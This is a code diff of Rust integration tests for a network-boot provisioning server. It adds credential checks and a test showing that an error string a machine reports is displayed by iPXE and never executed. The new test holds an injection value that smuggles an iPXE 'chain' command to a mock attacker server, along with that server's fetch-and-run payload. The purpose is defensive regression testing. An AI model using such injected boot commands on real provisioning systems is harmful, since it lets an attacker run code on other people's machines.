@@ -63,17 +63,22 @@ impl Vm {
     }
 }
 
+/// The server runs with every protection on: the operator's token, and a
+/// status token for deploy environments it did not boot. Its own machines
+/// report with their deploy's credential, which the status token does not
+/// stand in the way of.
 fn network_boot(firmware: &'static str) {
     let a = artifacts();
     let repo = Repo::new();
     let digest = add(&repo, "os:v1", &a.path("os-v1.img"));
-    let (served, net) = provisioning_server(
+    let (served, net) = provisioning_server_with(
         &repo,
         &format!(
             "[default]\ncmdline = [\"console=ttyS0\", \"quiet\", \"panic=-1\"]\n\n\
              [hosts.\"{MAC}\"]\nhostname = \"node-1\"\nimage = \"os:v1\"\nsettings = {{ disk = \"/dev/vda\" }}\n"
         ),
         None,
+        &["--status-token", "a-status-token-for-static-boots"],
     );
     let vm = Vm::new(&repo, firmware, &net);
     let run = |name: &str| vm.run(name);
@@ -89,7 +94,17 @@ fn network_boot(firmware: &'static str) {
     let m = machine_entry(&served, MAC);
     assert_eq!(m["state"]["completed"], digest, "{m}");
     assert_eq!(m["next"], "local");
-    assert_eq!(read_state(disk).0.settings["hostname"], "node-1");
+    // Its events were taken: every phase up to the hand-off, with the
+    // deploy's credential, which the disk's record keeps for the installed OS.
+    assert_eq!(m["event"]["phase"], "complete", "{m}");
+    let record = read_state(disk).0;
+    assert_eq!(record.settings["hostname"], "node-1");
+    let credential = record.credential.expect("the deploy's credential").0;
+    assert_eq!(
+        m["state"]["credential"].as_str(),
+        Some(imprint::host::access::fingerprint(&credential).as_str()),
+        "{m}"
+    );
 
     // Network first in the boot order, as racks are: sent to the disk.
     let c = run("local");
@@ -102,13 +117,7 @@ fn network_boot(firmware: &'static str) {
     assert_has(&c, "imprint firstboot: committed");
 
     // Reprovisioned: the same image again.
-    assert_success(&imprint(&[
-        "host",
-        "reprovision",
-        MAC,
-        "--server",
-        &served.url,
-    ]));
+    assert_success(&reprovision(&served, MAC, &operator_token_file()));
     // Only what the OS changed since (its root, as it ran) is fetched again.
     let changed = changed_chunks(&a.path("os-v1.img"), disk);
     let c = run("redeploy");
@@ -317,4 +326,84 @@ fn two_machines_at_once_get_their_own_images() {
         assert_eq!(&record.image_digest.to_string(), digest);
         assert_eq!(record.settings["hostname"], hostname);
     }
+}
+
+/// A held machine's boot script shows the last error its deploy reported, and
+/// that error is the machine's to write: here it holds iPXE's syntax (`;`
+/// starts another command, `#` ends the line) naming a script of an attacker's
+/// server. QEMU's own iPXE shows it as text and asks again; it never fetches
+/// or runs the attacker's script. (Anyone who can reach the server can fetch a
+/// machine's boot script, and with it that deploy's credential: iPXE cannot
+/// prove who it is. So the error comes from that path here.)
+#[test]
+fn an_error_a_machine_reports_is_shown_by_ipxe_never_run() {
+    require_qemu!();
+    let repo = Repo::new();
+    // The attacker's server: counts who asks, and would power the machine off.
+    let evil = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let evil_port = evil.local_addr().unwrap().port();
+    let asked = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    {
+        let asked = asked.clone();
+        std::thread::spawn(move || {
+            for stream in evil.incoming().flatten() {
+                asked.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                use std::io::Write;
+                let body = "#!ipxe\necho PWNED by a status event\npoweroff\n";
+                let _ = write!(
+                    &stream,
+                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                    body.len()
+                );
+            }
+        });
+    }
+    let (served, net) = provisioning_server_with(
+        &repo,
+        &format!("[hosts.\"{MAC}\"]\nimage = \"os:v1\"\n"),
+        None,
+        &["--attempts", "1"],
+    );
+    let s = common::rig::script(&served, MAC, "pcbios");
+    let credential = common::rig::credential_of(&s);
+    let error = format!("disk gone ; chain http://10.0.2.2:{evil_port}/x.ipxe #");
+    for e in [
+        r#"{"phase":"booted","target":"MAC"}"#.to_string(),
+        format!(r#"{{"phase":"failed","target":"MAC","error":"{error}"}}"#),
+    ] {
+        assert_eq!(common::rig::event(&served, MAC, &e, Some(&credential)), 204);
+    }
+    let m = machine_entry(&served, MAC);
+    assert_eq!(m["next"], "hold", "{m}");
+    assert_eq!(m["state"]["last_error"], error.as_str(), "{m}");
+
+    let disk = repo.file("disk.img");
+    sparse_disk(&disk, 64 << 20);
+    let (_, c) = boot(
+        repo.dir.path(),
+        "held",
+        Boot {
+            net: &net,
+            timeout: 180,
+            cut_on: &["imprint: asking again in 60 s"],
+            ..Boot::default()
+        },
+        &[disk.as_path()],
+    );
+    // iPXE wraps its console at 80 columns.
+    let unwrapped = c.replace(['\r', '\n'], "");
+    assert_has(
+        &unwrapped,
+        &format!(
+            "imprint: {MAC}: the deploy failed 1 times in a row, last: disk gone ? chain http://10.0.2.2:{evil_port}/x.ipxe ?? fix it, then run: imprint host reprovision {MAC}"
+        ),
+    );
+    assert_has(&c, "imprint: asking again in 60 s");
+    assert!(!c.contains("PWNED"), "{c}");
+    assert_eq!(
+        asked.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "iPXE asked the attacker's server"
+    );
+    assert_eq!(machine_entry(&served, MAC)["next"], "hold");
 }
